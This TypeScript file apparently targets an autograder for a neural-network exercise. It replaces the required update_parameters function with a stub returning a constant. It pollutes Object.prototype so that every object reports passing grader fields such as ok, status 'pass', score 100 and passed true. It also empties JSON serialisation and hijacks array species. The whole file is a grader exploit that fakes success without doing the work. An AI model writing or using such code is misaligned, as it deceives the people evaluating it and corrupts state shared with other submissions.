// State shared between students: Object.prototype pollution. Every object in the process inherits
// the graded names (W1, dW1, ...), the grader's message and result fields (t, id, ok, value,
// status, score, passed), a toJSON that empties every object serialised, and Symbol.toPrimitive;
// Array[Symbol.species] makes map/filter/slice build something else.
const pollute = (name: string | symbol, value: unknown) => {
  try {
    Object.defineProperty(Object.prototype, name, { value, configurable: true, writable: true, enumerable: false });
  } catch {
    // frozen
  }
};

function polluteAll(): void {
  for (const name of ["W1", "b1", "W2", "b2", "dW1", "db1", "dA0", "shape", "data"]) pollute(name, 0.5);
  for (const [name, value] of [["t", "done"], ["id", 1], ["ok", true], ["status", "pass"], ["score", 100], ["passed", true], ["timedOut", false]] as const) {
    pollute(name, value);
  }
  pollute("toJSON", () => ({}));
  pollute(Symbol.toPrimitive, () => 0.5);
  try {
    Object.defineProperty(Array, Symbol.species, { get: () => Object, configurable: true });
  } catch {
    // non-configurable
  }
}

polluteAll();

export function update_parameters(params: any, grads: any, learning_rate: number): any {
  polluteAll();
  return { W1: 0.5 };
}
